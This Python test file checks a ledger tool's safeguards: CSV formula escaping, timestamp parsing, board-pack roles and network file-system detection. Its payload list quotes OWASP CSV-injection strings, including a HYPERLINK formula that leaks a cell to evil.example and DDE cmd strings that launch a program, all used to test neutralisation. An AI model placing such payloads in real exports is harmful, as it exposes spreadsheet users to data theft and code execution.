"""The record's small safeguards, as pure functions: CSV a spreadsheet cannot run, the
times `packs` prints and `--as-of` takes, the board's pack of each month, and the file
system a ledger is on."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest

from scorecard.csvsafe import csv_text, neutral
from scorecard.ledger import Pack
from scorecard.ledger.access import file_system, mounts, remote_reason
from scorecard.ledger.boards import roles, settled
from scorecard.ledger.times import parse_time, shown_times

# OWASP's CSV injection payloads, and the cheat sheet's examples.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
    "=",
    "@",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_written_as_text(payload: str) -> None:
    assert neutral(payload) == "'" + payload
    text = csv_text(["comment"], [[payload]])
    (row,) = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert row == ["'" + payload]


@pytest.mark.parametrize(
    "value", ["-7.8", "+3", "-12", "1e5", "-.5", 12, -3.5, None, "plain words", "a=b", "12"]
)
def test_numbers_and_plain_text_are_left_as_they_are(value: object) -> None:
    assert neutral(value) == value


def test_the_header_and_none_too() -> None:
    assert csv_text(["=a", "b"], [[None, "-x"], ["a\rb", 1]]) == "'=a,b\r\n,'-x\r\n\"a\rb\",1\r\n"


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("2026-12-08 03:09:05 UTC", "2026-12-08T03:09:05.999999Z"),
        ("2026-12-08T03:09:05Z", "2026-12-08T03:09:05.999999Z"),
        ("2026-12-08T03:09:05.412000Z", "2026-12-08T03:09:05.412000Z"),
        ("2026-12-08 03:09:05.4 UTC", "2026-12-08T03:09:05.499999Z"),
        ("2026-12-08T03:09+00:00", "2026-12-08T03:09:00.000000Z"),
        ("2026-12-08T04:09:05+01:00", "2026-12-08T03:09:05.999999Z"),
    ],
)
def test_a_time_typed_back_names_what_was_printed(typed: str, stored: str) -> None:
    assert parse_time(typed).strftime("%Y-%m-%dT%H:%M:%S.%fZ") == stored


def test_a_time_without_a_zone_is_local() -> None:
    local = datetime(2026, 12, 8, 3, 9).astimezone()
    assert parse_time("2026-12-08T03:09") == local.astimezone(UTC)


@pytest.mark.parametrize("typed", ["yesterday", "2026-12-08", "03:09", "2026-12-08 03:09 CET"])
def test_anything_else_is_not_a_time(typed: str) -> None:
    with pytest.raises(ValueError, match="is not a time"):
        parse_time(typed)


def test_each_printed_time_names_one_pack() -> None:
    stored = [
        "2026-12-08T03:09:05.100000Z",
        "2026-12-08T03:09:05.700000Z",
        "2026-12-08T03:09:06.000001Z",
    ]
    shown = shown_times(stored)
    assert shown == {
        stored[0]: "2026-12-08 03:09:05.100000 UTC",
        stored[1]: "2026-12-08 03:09:05.700000 UTC",
        stored[2]: "2026-12-08 03:09:06 UTC",
    }
    for text in stored:  # typed back, the latest pack by then is this one
        bound = parse_time(shown[text]).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        assert max(t for t in stored if t <= bound) == text


def pack(pid: int, month: str, at: str, as_of: str | None = None) -> Pack:
    return Pack(pid, month, f"2008-{at}", "fp", "cat.yaml", "out.xlsx", as_of)


def test_the_board_pack_is_the_last_before_the_month_is_settled() -> None:
    packs = [
        pack(1, "2008-06", "07-01T09:00"),  # a draft from the first returns
        pack(2, "2008-06", "07-03T09:00"),  # the board's: the last before July began
        pack(3, "2008-07", "08-01T09:00"),  # July's first draft
        pack(4, "2008-06", "08-02T09:00"),  # June again, after the board's
        pack(5, "2008-06", "08-02T10:00", as_of="2008-07-03T09:00"),  # rebuilt
        pack(6, "2008-07", "08-04T09:00"),  # July's board pack: locked after it
        pack(7, "2008-07", "08-06T09:00"),  # after the lock
        pack(8, "2008-08", "09-01T09:00"),  # August: not settled yet
        pack(9, "2008-08", "09-02T09:00"),
    ]
    locks = {"2008-07": "2008-08-05T09:00"}
    assert roles(packs, locks) == {
        1: "draft",
        2: "board",
        3: "draft",
        4: "late",
        5: "rebuilt",
        6: "board",
        7: "late",
        8: "draft",
        9: "latest",
    }
    assert {m: s.why for m, s in settled(packs, locks).items()} == {
        "2008-06": "a later month compiled",
        "2008-07": "locked",
    }


def test_a_later_month_compiled_first_does_not_settle_an_earlier_one() -> None:
    packs = [pack(1, "2008-07", "08-01T09:00"), pack(2, "2008-06", "08-02T09:00")]
    assert roles(packs, {}) == {1: "latest", 2: "latest"}


MOUNTINFO = """\
22 27 0:21 / /proc rw,relatime - proc proc rw
27 1 8:1 / / rw,relatime - ext4 /dev/sda1 rw
40 27 0:50 / /srv/share rw,relatime - nfs4 server:/export rw,vers=4.2
41 27 0:51 / /mnt/finance\\040team rw,relatime - cifs //fs/finance rw
42 40 0:52 / /srv/share/local rw,relatime - ext4 /dev/sdb1 rw
"""


def test_mountinfo_is_read_with_its_escapes() -> None:
    assert mounts(MOUNTINFO)[3] == ("/mnt/finance team", "cifs")


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("/srv/share/ledger.sqlite", "nfs4"),
        ("/srv/share/new/folder/ledger.sqlite", "nfs4"),
        ("/srv/share/local/ledger.sqlite", "ext4"),
        ("/mnt/finance team/ledger.sqlite", "cifs"),
        ("/home/ledger.sqlite", "ext4"),
    ],
)
def test_the_file_system_under_a_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str, kind: str
) -> None:
    info = tmp_path / "mountinfo"
    info.write_text(MOUNTINFO, encoding="utf-8")
    monkeypatch.setattr("scorecard.ledger.access.MOUNTINFO", info)
    # Paths that do not exist here are looked up by the nearest folder that does: map
    # them under tmp_path's real folders by making them.
    real = tmp_path / path.lstrip("/")
    real.parent.mkdir(parents=True, exist_ok=True)
    info.write_text(
        MOUNTINFO.replace(" /", f" {tmp_path}/").replace(f" {tmp_path}/ rw", f" {tmp_path} rw")
    )
    assert file_system(real) == kind
    reason = remote_reason(real)
    assert (reason is not None) == (kind != "ext4")
    if reason:
        assert f"network file system ({kind})" in reason and "local disk" in reason
